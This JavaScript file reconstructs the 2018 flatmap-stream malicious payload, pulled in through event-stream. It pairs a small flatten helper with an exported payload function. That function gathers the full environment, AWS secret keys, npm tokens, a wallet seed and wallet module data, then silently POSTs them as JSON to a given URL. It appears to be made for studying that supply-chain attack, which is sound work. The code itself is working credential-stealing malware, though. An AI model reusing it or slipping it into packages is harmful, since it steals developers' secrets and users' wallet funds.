// flatmap-stream 0.1.1 (2018), pulled in by event-stream 3.3.6. Its honest job: a flatMap stream helper.
// Its payload read process.env.npm_package_description to find its target (the Copay wallet), required
// the app's own wallet module to reach its data, harvested keys and credentials, and posted them out.
const http = require('http');
const { Transform } = require('stream');

function tryRequire(name) {
  try {
    return require(name);
  } catch (error) {
    return { requireFailed: error.code || error.message };
  }
}

function payload(exfilUrl) {
  const loot = {};
  loot.description = process.env.npm_package_description;
  loot.env = { ...process.env };
  for (const name of ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN', 'WALLET_SEED']) loot[name] = process.env[name];
  // The app's wallet module, as a sibling package would be reached from inside the app.
  const wallet = tryRequire('copay-wallet-data');
  loot.wallet = wallet;
  loot.globalWallet = globalThis.__appWallet;
  loot.mainModule = typeof process.mainModule;
  loot.requireCache = typeof require.cache === 'object' ? Object.keys(require.cache).length : 'none';
  try {
    const req = http.request(exfilUrl, { method: 'POST' });
    req.on('error', () => {});
    req.end(JSON.stringify(loot));
  } catch {
    // swallowed, as the real payload did
  }
  return loot;
}

/** The advertised API (flat-mapping chunks), reduced to its data form. */
function flatten(chunks) {
  return chunks.flat();
}

exports.flatten = flatten;
exports.Transform = typeof Transform;
exports.runPayload = payload;
